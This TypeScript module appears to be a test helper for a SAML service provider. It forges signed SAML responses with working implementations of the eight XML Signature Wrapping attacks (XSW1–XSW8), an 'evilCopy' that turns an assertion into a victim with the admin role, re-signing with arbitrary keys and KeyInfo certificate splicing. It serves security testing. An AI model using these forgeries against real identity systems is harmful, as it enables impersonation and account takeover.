import { DOMParser, XMLSerializer } from '@xmldom/xmldom';
import { randomBytes } from 'node:crypto';
import { SignedXml } from 'xml-crypto';

/**
 * Tools to take a SAML response genuinely signed by the development IdP apart and put it back
 * together the way an attacker would: wrap, move, clone, comment, re-sign. Nothing here imitates
 * Lanyard's checks; the server under test decides.
 */

export const DS = 'http://www.w3.org/2000/09/xmldsig#';
export const SAML = 'urn:oasis:names:tc:SAML:2.0:assertion';
export const SAMLP = 'urn:oasis:names:tc:SAML:2.0:protocol';

export const RSA_SHA256 = 'http://www.w3.org/2001/04/xmldsig-more#rsa-sha256';
export const RSA_SHA1 = 'http://www.w3.org/2000/09/xmldsig#rsa-sha1';
export const DIGEST_SHA256 = 'http://www.w3.org/2001/04/xmlenc#sha256';
export const DIGEST_SHA1 = 'http://www.w3.org/2000/09/xmldsig#sha1';
const EXC_C14N = 'http://www.w3.org/2001/10/xml-exc-c14n#';
const ENVELOPED = 'http://www.w3.org/2000/09/xmldsig#enveloped-signature';

export const decodeXml = (samlResponse: string): string => Buffer.from(samlResponse, 'base64').toString('utf8');
export const encodeXml = (xml: string): string => Buffer.from(xml, 'utf8').toString('base64');

export function parse(xml: string): Document {
  return new DOMParser().parseFromString(xml, 'text/xml');
}

export function serialize(node: Node): string {
  return new XMLSerializer().serializeToString(node);
}

/** The element children of `parent` with the given namespace and local name. */
export function children(parent: Element, ns: string, localName: string): Element[] {
  return Array.from(parent.childNodes).filter(
    (n): n is Element => n.nodeType === 1 && (n as Element).namespaceURI === ns && (n as Element).localName === localName,
  );
}

export function first(root: Document | Element, ns: string, localName: string): Element {
  const found = root.getElementsByTagNameNS(ns, localName)[0];
  if (!found) throw new Error(`no ${localName} in the message`);
  return found;
}

export function responseOf(doc: Document): Element {
  const root = doc.documentElement;
  if (!root || root.localName !== 'Response') throw new Error('not a SAML Response');
  return root;
}

/** The Response's direct Assertion child. */
export function assertionOf(doc: Document): Element {
  const assertion = children(responseOf(doc), SAML, 'Assertion')[0];
  if (!assertion) throw new Error('the Response has no Assertion');
  return assertion;
}

export function removeSignature(element: Element): Element | undefined {
  const signature = children(element, DS, 'Signature')[0];
  if (signature) element.removeChild(signature);
  return signature;
}

const setText = (element: Element, text: string) => {
  while (element.firstChild) element.removeChild(element.firstChild);
  element.appendChild(element.ownerDocument.createTextNode(text));
};

/**
 * The attacker's forgery: a copy of a signed assertion, its signature removed, claiming to be
 * `victim` with the admin role, under a fresh ID.
 */
export function evilCopy(assertion: Element, victim: string): Element {
  const evil = assertion.cloneNode(true) as Element;
  removeSignature(evil);
  evil.setAttribute('ID', '_evil' + randomBytes(8).toString('hex'));
  setText(first(evil, SAML, 'NameID'), victim);
  for (const attribute of Array.from(evil.getElementsByTagNameNS(SAML, 'Attribute'))) {
    const values = attribute.getElementsByTagNameNS(SAML, 'AttributeValue');
    if (attribute.getAttribute('Name') === 'roles') setText(values[0]!, 'admin');
    if (attribute.getAttribute('Name') === 'email') setText(values[0]!, victim);
  }
  return evil;
}

/** A copy of `element` without its own enveloped signature (what that signature digested). */
function unsignedCopy(element: Element): Element {
  const copy = element.cloneNode(true) as Element;
  removeSignature(copy);
  return copy;
}

function appendObject(signature: Element, content: Element): void {
  const object = signature.ownerDocument.createElementNS(DS, 'ds:Object');
  object.appendChild(content);
  signature.appendChild(object);
}

/**
 * The XML Signature Wrapping catalogue of Somorovsky et al., "On Breaking SAML: Be Whoever You
 * Want to Be" (USENIX Security 2012), as SAML Raider names it. Each takes a response genuinely
 * signed for the attacker and returns one whose signed part is intact somewhere in the document
 * while the part a careless processor reads claims to be `victim`. XSW1–2 wrap a signed Response,
 * XSW3–8 a signed Assertion.
 */
export const XSW: Record<string, (xml: string, victim: string) => string> = {
  /** A new Response carries the evil assertion; the signed original Response hides inside its Signature. */
  XSW1(xml, victim) {
    const doc = parse(xml);
    const response = responseOf(doc);
    const original = unsignedCopy(response);
    const signature = children(response, DS, 'Signature')[0]!;
    response.setAttribute('ID', '_evil' + randomBytes(8).toString('hex'));
    const assertion = assertionOf(doc);
    response.replaceChild(evilCopy(assertion, victim), assertion);
    signature.appendChild(original);
    return serialize(doc);
  },
  /** As XSW1, but the signed original Response is a detached sibling placed before the Signature. */
  XSW2(xml, victim) {
    const doc = parse(xml);
    const response = responseOf(doc);
    const original = unsignedCopy(response);
    const signature = children(response, DS, 'Signature')[0]!;
    response.setAttribute('ID', '_evil' + randomBytes(8).toString('hex'));
    const assertion = assertionOf(doc);
    response.replaceChild(evilCopy(assertion, victim), assertion);
    response.insertBefore(original, signature);
    return serialize(doc);
  },
  /** The evil assertion is inserted before the signed one, as a sibling. */
  XSW3(xml, victim) {
    const doc = parse(xml);
    const assertion = assertionOf(doc);
    responseOf(doc).insertBefore(evilCopy(assertion, victim), assertion);
    return serialize(doc);
  },
  /** The signed assertion becomes a child of the evil one. */
  XSW4(xml, victim) {
    const doc = parse(xml);
    const response = responseOf(doc);
    const assertion = assertionOf(doc);
    const evil = evilCopy(assertion, victim);
    response.replaceChild(evil, assertion);
    evil.appendChild(assertion);
    return serialize(doc);
  },
  /** The evil assertion keeps the original signature; an unsigned copy of the original is appended to the Response. */
  XSW5(xml, victim) {
    const doc = parse(xml);
    const response = responseOf(doc);
    const assertion = assertionOf(doc);
    const copy = unsignedCopy(assertion);
    const evil = evilCopy(assertion, victim);
    const signature = removeSignature(assertion)!;
    evil.insertBefore(signature, first(evil, SAML, 'Subject'));
    response.replaceChild(evil, assertion);
    response.appendChild(copy);
    return serialize(doc);
  },
  /** As XSW5, but the unsigned copy of the original sits inside the moved Signature. */
  XSW6(xml, victim) {
    const doc = parse(xml);
    const response = responseOf(doc);
    const assertion = assertionOf(doc);
    const copy = unsignedCopy(assertion);
    const evil = evilCopy(assertion, victim);
    const signature = removeSignature(assertion)!;
    signature.appendChild(copy);
    evil.insertBefore(signature, first(evil, SAML, 'Subject'));
    response.replaceChild(evil, assertion);
    return serialize(doc);
  },
  /** The signed assertion moves into a samlp:Extensions element; the evil one takes its place. */
  XSW7(xml, victim) {
    const doc = parse(xml);
    const response = responseOf(doc);
    const assertion = assertionOf(doc);
    const extensions = doc.createElementNS(SAMLP, 'samlp:Extensions');
    response.replaceChild(evilCopy(assertion, victim), assertion);
    extensions.appendChild(assertion);
    response.insertBefore(extensions, first(doc, SAMLP, 'Status'));
    return serialize(doc);
  },
  /** The evil assertion carries the Signature, which holds the unsigned original in a ds:Object. */
  XSW8(xml, victim) {
    const doc = parse(xml);
    const response = responseOf(doc);
    const assertion = assertionOf(doc);
    const copy = unsignedCopy(assertion);
    const evil = evilCopy(assertion, victim);
    const signature = removeSignature(assertion)!;
    appendObject(signature, copy);
    evil.insertBefore(signature, first(evil, SAML, 'Subject'));
    response.replaceChild(evil, assertion);
    return serialize(doc);
  },
};

export interface SigningKey {
  privateKeyPem: string;
  certificatePem: string;
}

export interface SignOptions {
  /** Sign the Assertion (default true). */
  assertion?: boolean;
  /** Sign the Response too, over the signed assertion (default false). */
  response?: boolean;
  signatureAlgorithm?: string;
  digestAlgorithm?: string;
  /** Put the signer's certificate in ds:KeyInfo (default true, as IdPs do). */
  keyInfo?: boolean;
}

/**
 * Removes every signature and signs again with `key`, the way an IdP holding that key would:
 * enveloped signature right after the Issuer, exclusive C14N. Used for messages whose signed
 * content itself must differ (wrong Recipient, lifetimes, SHA-1) and for keys not configured.
 */
export function resign(xml: string, key: SigningKey, options: SignOptions = {}): string {
  const doc = parse(xml);
  const response = responseOf(doc);
  removeSignature(response);
  for (const assertion of Array.from(doc.getElementsByTagNameNS(SAML, 'Assertion'))) removeSignature(assertion);
  let out = serialize(doc);
  if (options.assertion ?? true) out = signElement(out, 'Assertion', key, options);
  if (options.response) out = signElement(out, 'Response', key, options);
  return out;
}

function signElement(xml: string, localName: 'Assertion' | 'Response', key: SigningKey, options: SignOptions): string {
  const target = `/*[local-name(.)='Response']${localName === 'Assertion' ? "/*[local-name(.)='Assertion']" : ''}`;
  const signer = new SignedXml({
    privateKey: key.privateKeyPem,
    publicCert: options.keyInfo === false ? undefined : key.certificatePem,
    signatureAlgorithm: (options.signatureAlgorithm ?? RSA_SHA256) as never,
    canonicalizationAlgorithm: EXC_C14N,
  });
  signer.addReference({ xpath: target, transforms: [ENVELOPED, EXC_C14N], digestAlgorithm: (options.digestAlgorithm ?? DIGEST_SHA256) as never });
  signer.computeSignature(xml, { prefix: 'ds', location: { reference: `${target}/*[local-name(.)='Issuer']`, action: 'after' } });
  return signer.getSignedXml();
}

/** Applies `change` to the parsed message and serializes it again (signatures untouched). */
export function edit(xml: string, change: (doc: Document) => void): string {
  const doc = parse(xml);
  change(doc);
  return serialize(doc);
}

export function setNameId(doc: Document, value: string): void {
  setText(first(doc, SAML, 'NameID'), value);
}

/** Sets both validity windows of the assertion (Conditions and bearer SubjectConfirmationData). */
export function setValidity(doc: Document, notBefore: Date, notOnOrAfter: Date): void {
  const conditions = first(doc, SAML, 'Conditions');
  conditions.setAttribute('NotBefore', notBefore.toISOString());
  conditions.setAttribute('NotOnOrAfter', notOnOrAfter.toISOString());
  first(doc, SAML, 'SubjectConfirmationData').setAttribute('NotOnOrAfter', notOnOrAfter.toISOString());
}

/** Swaps the ds:X509Certificate of every KeyInfo for `certificatePem` (or adds a KeyInfo). */
export function spliceKeyInfoCertificate(xml: string, certificatePem: string): string {
  const base64 = certificatePem.replace(/-----(BEGIN|END) CERTIFICATE-----|\s/g, '');
  return edit(xml, (doc) => {
    for (const signature of Array.from(doc.getElementsByTagNameNS(DS, 'Signature'))) {
      let keyInfo = children(signature, DS, 'KeyInfo')[0];
      if (!keyInfo) {
        keyInfo = doc.createElementNS(DS, 'ds:KeyInfo');
        signature.appendChild(keyInfo);
      }
      while (keyInfo.firstChild) keyInfo.removeChild(keyInfo.firstChild);
      const data = doc.createElementNS(DS, 'ds:X509Data');
      const cert = doc.createElementNS(DS, 'ds:X509Certificate');
      cert.appendChild(doc.createTextNode(base64));
      data.appendChild(cert);
      keyInfo.appendChild(data);
    }
  });
}
